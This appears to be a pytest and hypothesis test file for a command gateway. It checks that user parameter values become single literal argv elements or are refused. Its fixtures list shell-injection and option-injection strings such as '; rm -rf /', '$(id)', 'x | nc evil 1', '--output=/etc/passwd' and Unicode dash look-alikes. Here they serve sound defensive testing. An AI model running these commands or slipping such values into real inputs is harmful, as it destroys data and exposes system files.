"""argv building: hostile values reach the program as one literal argument, or are refused.

The proof is a real program that prints the argv it received as JSON, run
through the same ``ShellRun`` the gateway uses; nothing in between is a shell.
"""

from __future__ import annotations

import json
import sys
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gateway.catalogue import Command
from gateway.catalogue.argv import build_argv, build_env, build_stdin
from gateway.catalogue.params import FileValue, ParamError
from gateway.catalogue.values import validate_params
from gateway.runners.shell import ShellRun, ShellSpec, scrubbed_env

PRINT_ARGV = "import json, sys; print(json.dumps(sys.argv[1:]))"
ECHO_PROGRAM = [sys.executable, "-c", PRINT_ARGV]

HOSTILE = [
    "; rm -rf /",
    "$(id)",
    "`id`",
    "a && reboot",
    "x | nc evil 1",
    "*",
    "~root",
    "$HOME",
    "'quoted' \"double\"",
    "back\\slash",
    "{value}",
    "{other}",
    "\uff0drf",  # FULLWIDTH HYPHEN-MINUS: not an option to any getopt
    "\u2212rf",  # MINUS SIGN
    "\u2010rf",  # HYPHEN
    "\u202eexe.txt",  # RIGHT-TO-LEFT OVERRIDE
    "file\u200bname",  # ZERO WIDTH SPACE
    " -rf",  # a leading space: not a dash
    "",
    "a" * 4096,
]
REFUSED_LEADING_DASH = ["-rf", "--output=/etc/passwd", "-", "--", "-e", "--help"]
REFUSED_CHARACTERS = ["line\nbreak", "nul\x00byte", "cr\rhere", "\x1b]0;title\x07"]


def make(argv: list[str], params: dict[str, dict[str, Any]], **fields: Any) -> Command:
    return Command.model_validate(
        {"name": "probe", "title": "Probe", "kind": "shell", "argv": argv, "params": params, **fields}
    )


def argv_for(command: Command, raw: dict[str, Any]) -> list[str]:
    return build_argv(command, validate_params(command, raw))


def received(command: Command, raw: dict[str, Any]) -> list[str]:
    """What the real program saw in sys.argv[1:] when run through ShellRun."""
    values = validate_params(command, raw)
    chunks: list[tuple[str, bytes]] = []
    spec = ShellSpec(
        argv=build_argv(command, values),
        env=scrubbed_env(build_env(command, values), None, "run-test", "tester"),
        stdin=build_stdin(command, values),
        timeout=30,
    )
    result = ShellRun(spec, on_output=lambda stream, data: chunks.append((stream, data))).run()
    stderr = b"".join(data for stream, data in chunks if stream == "stderr")
    assert result.status == "succeeded", (result, stderr)
    return json.loads(b"".join(data for stream, data in chunks if stream == "stdout"))


WHOLE = make([*ECHO_PROGRAM, "{value}"], {"value": {"type": "string"}})
AFTER_DASHES = make([*ECHO_PROGRAM, "--", "{value}"], {"value": {"type": "string"}})
INSIDE = make([*ECHO_PROGRAM, "--opt={value}"], {"value": {"type": "string"}})
LISTED = make([*ECHO_PROGRAM, "{items}"], {"items": {"type": "list"}})


# --- hostile values through a real program --------------------------------------------------------


def test_hostile_values_arrive_as_one_literal_argument_each() -> None:
    """One process for all of them: each hostile string is one element of a list param."""
    assert received(LISTED, {"items": HOSTILE}) == HOSTILE


@pytest.mark.parametrize("value", ["; rm -rf /", "$(id)", "`id`", "\u2212rf", "\u202eexe.txt", "\uff0d\uff0drf"])
def test_hostile_value_as_a_whole_element(value: str) -> None:
    assert received(WHOLE, {"value": value}) == [value]


def test_hostile_values_inside_an_element() -> None:
    assert received(INSIDE, {"value": "x; rm -rf / $(id) `id`"}) == ["--opt=x; rm -rf / $(id) `id`"]
    assert received(INSIDE, {"value": "-rf"}) == ["--opt=-rf"]  # inside one element: always safe


@pytest.mark.parametrize("value", REFUSED_LEADING_DASH)
def test_leading_dash_is_refused_for_a_whole_element(value: str) -> None:
    with pytest.raises(ParamError) as caught:
        argv_for(WHOLE, {"value": value})
    assert caught.value.field == "value" and "'-'" in caught.value.message


@pytest.mark.parametrize("value", REFUSED_LEADING_DASH)
def test_leading_dash_after_double_dash_arrives_literally(value: str) -> None:
    assert received(AFTER_DASHES, {"value": value}) == ["--", value]


@pytest.mark.parametrize("value", REFUSED_CHARACTERS)
def test_newlines_nul_and_controls_are_refused(value: str) -> None:
    for command, raw in ((WHOLE, {"value": value}), (INSIDE, {"value": value}), (LISTED, {"items": [value]})):
        with pytest.raises(ParamError):
            argv_for(command, raw)


def test_a_pattern_that_admits_newlines_lets_them_through_as_one_argument() -> None:
    command = make([*ECHO_PROGRAM, "{text}"], {"text": {"pattern": r"[a-z\n]+"}})
    assert received(command, {"text": "two\nlines"}) == ["two\nlines"]


def test_placeholders_in_values_are_not_expanded() -> None:
    command = make([*ECHO_PROGRAM, "{a}", "{b}-{a}"], {"a": {}, "b": {}})
    assert received(command, {"a": "{b}", "b": "{a}"}) == ["{b}", "{a}-{b}"]


# --- the leading-dash rule ------------------------------------------------------------------------


def test_a_pattern_that_explicitly_admits_a_dash_opts_in() -> None:
    command = make([*ECHO_PROGRAM, "{offset}"], {"offset": {"pattern": r"-?[0-9]+"}})
    assert received(command, {"offset": "-5"}) == ["-5"]


def test_a_pattern_that_merely_contains_a_dash_does_not_opt_in() -> None:
    command = make(["ls", "{name}"], {"name": {"pattern": r"[A-Za-z0-9._-]+"}})
    assert argv_for(command, {"name": "my-file.txt"}) == ["ls", "my-file.txt"]
    with pytest.raises(ParamError):
        argv_for(command, {"name": "-rf"})


def test_negative_integer_as_a_whole_element_is_refused() -> None:
    command = make(["head", "-n", "{lines}"], {"lines": {"type": "integer"}})
    assert argv_for(command, {"lines": 5}) == ["head", "-n", "5"]
    with pytest.raises(ParamError) as caught:
        argv_for(command, {"lines": -5})
    assert caught.value.field == "lines"


def test_a_value_that_starts_an_element_follows_the_dash_rule_too() -> None:
    """``{name}.log`` filled with ``-rf x`` would start the element with a dash, like ``{name}`` alone."""
    command = make(["rm", "{name}.log"], {"name": {}})
    assert argv_for(command, {"name": "old"}) == ["rm", "old.log"]
    with pytest.raises(ParamError) as caught:
        argv_for(command, {"name": "-rf x"})
    assert caught.value.field == "name"
    after = make(["rm", "--", "{name}.log"], {"name": {}})
    assert argv_for(after, {"name": "-rf x"}) == ["rm", "--", "-rf x.log"]


def test_an_empty_leading_value_hands_the_check_to_the_next_one() -> None:
    command = make(["echo", "{a}{b}"], {"a": {}, "b": {}})
    with pytest.raises(ParamError) as caught:
        argv_for(command, {"a": "", "b": "-x"})
    assert caught.value.field == "b"
    assert argv_for(command, {"a": "x", "b": "-x"}) == ["echo", "x-x"]


def test_a_dash_in_the_template_itself_is_fine() -> None:
    command = make(["tail", "-n{lines}", "--lines={lines}"], {"lines": {"type": "integer"}})
    assert argv_for(command, {"lines": 3}) == ["tail", "-n3", "--lines=3"]


def test_double_dash_from_a_value_does_not_end_options() -> None:
    command = make(["echo", "{items}", "{value}"], {"items": {"type": "list"}, "value": {}})
    with pytest.raises(ParamError) as caught:
        argv_for(command, {"items": ["a"], "value": "-rf"})
    assert caught.value.field == "value"
    with pytest.raises(ParamError) as caught:
        argv_for(command, {"items": ["a", "--"], "value": "x"})
    assert caught.value.field == "items[1]"


# --- list expansion and optional params -----------------------------------------------------------


def test_list_param_expands_to_one_element_per_item() -> None:
    assert received(LISTED, {"items": ["a b", "c", ""]}) == ["a b", "c", ""]
    assert received(LISTED, {"items": []}) == []


def test_each_list_item_is_checked() -> None:
    with pytest.raises(ParamError) as caught:
        argv_for(LISTED, {"items": ["ok", "-rf"]})
    assert caught.value.field == "items[1]"
    command = make(["echo", "{items}"], {"items": {"type": "list", "pattern": "[a-z]+"}})
    with pytest.raises(ParamError) as caught:
        argv_for(command, {"items": ["ok", "NOT"]})
    assert caught.value.field == "items[1]"


def test_optional_param_left_out_adds_no_element() -> None:
    command = make(["echo", "{a}", "fixed", "{b}"], {"a": {}, "b": {"type": "list"}})
    assert argv_for(command, {}) == ["echo", "fixed"]
    assert argv_for(command, {"a": ""}) == ["echo", "", "fixed"]


def test_defaults_and_rendering() -> None:
    command = make(
        ["tool", "{n}", "{flag}", "{when}", "--f={upload}"],
        {
            "n": {"type": "integer", "default": 3},
            "flag": {"type": "boolean"},
            "when": {"type": "date"},
            "upload": {"type": "file"},
        },
    )
    upload = FileValue(path="/tmp/run-1/f0", original_name="evil; rm.csv", size=1, sha256="0" * 64)
    values = validate_params(command, {"flag": False, "when": "2024-01-31", "upload": upload})
    assert build_argv(command, values) == ["tool", "3", "false", "2024-01-31", "--f=/tmp/run-1/f0"]


def test_secrets_reach_the_program_through_env_and_stdin_only() -> None:
    program = "import json, os, sys; print(json.dumps([sys.argv[1:], os.environ.get('TOKEN'), sys.stdin.read()]))"
    command = make(
        [sys.executable, "-c", program, "{user}"],
        {"user": {}, "token": {"secret": True}},
        env={"TOKEN": "{token}"},
        stdin="token={token}\n",
    )
    assert received(command, {"user": "alice", "token": "s3cr3t $(id)"}) == [
        ["alice"],
        "s3cr3t $(id)",
        "token=s3cr3t $(id)\n",
    ]
    values = validate_params(command, {"user": "alice", "token": "s3cr3t"})
    assert "s3cr3t" not in " ".join(build_argv(command, values))


def test_build_argv_refuses_a_query_command() -> None:
    query = Command.model_validate({"name": "q", "title": "Q", "kind": "query", "datasource": "ops", "sql": "SELECT 1"})
    with pytest.raises(ValueError):
        build_argv(query, {})


# --- properties ---------------------------------------------------------------------------------

PROPERTY_COMMAND = make(["prog", "fixed", "{value}", "--opt={value}", "end"], {"value": {"type": "string"}})
PROPERTY_LIST = make(["prog", "{items}", "end"], {"items": {"type": "list", "max_items": 10}})


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=60))
def test_any_string_is_refused_or_placed_exactly_once_unchanged(value: str) -> None:
    try:
        argv = argv_for(PROPERTY_COMMAND, {"value": value})
    except ParamError as exc:
        assert exc.field == "value"
        return
    assert argv == ["prog", "fixed", value, "--opt=" + value, "end"]
    assert argv.count(value) == 1 + (value == "end") + (value == "fixed") + (value == "prog")


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text(max_size=20), max_size=10))
def test_any_list_is_refused_or_expanded_item_for_item(items: list[str]) -> None:
    try:
        argv = argv_for(PROPERTY_LIST, {"items": items})
    except ParamError as exc:
        assert exc.field.startswith("items")
        return
    assert argv == ["prog", *items, "end"]
    assert len(argv) == 2 + len(items)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text(max_size=30), min_size=1, max_size=8))
def test_the_real_program_sees_exactly_the_accepted_items(items: list[str]) -> None:
    try:
        argv_for(LISTED, {"items": items})
    except ParamError:
        return
    assert received(LISTED, {"items": items}) == items
